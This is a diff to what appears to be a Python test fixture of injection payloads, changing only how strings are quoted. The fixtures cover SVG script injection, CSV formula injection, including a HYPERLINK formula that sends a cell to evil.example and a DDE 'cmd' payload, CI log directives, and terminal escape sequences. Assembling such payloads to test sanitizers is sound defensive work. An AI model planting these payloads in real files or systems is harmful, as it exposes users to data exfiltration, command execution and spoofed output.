@@ -105,7 +105,7 @@ SVG = (
     "</text><script>alert(1)</script><text>",
     '"/><path onclick="alert(1)" d="M0 0',
     "</svg><img src=x onerror=alert(1)>",
-    "M0 0H10\"/><script>alert(1)</script>",
+    'M0 0H10"/><script>alert(1)</script>',
 )
 
 CSS = (
@@ -182,7 +182,7 @@ MARKDOWN = (
 
 CSV = (
     "=1+1",
-    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"open\")",
+    '=HYPERLINK("https://evil.example/?x="&A1,"open")',
     "=cmd|' /C calc'!A0",
     "+1+1",
     "-1+1",
@@ -224,7 +224,7 @@ COMMANDS = (
     "##vso[task.complete result=Succeeded;]",
     "##teamcity[buildStatus status='SUCCESS']",
     "section_start:1:x\r\x1b[0K",
-    "{\"level\":\"error\"}",
+    '{"level":"error"}',
 )
 
 TERMINALS = (
@@ -233,7 +233,7 @@ TERMINALS = (
     "\x1b]0;title\x07",
     "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
     "\x1b]52;c;ZXZpbA==\x07",
-    "\x1bP$q\"p\x1b\\",
+    '\x1bP$q"p\x1b\\',
     "\x9b31mred",
     "\x07\x08\x08\x08gone",
     "progress\rdone",
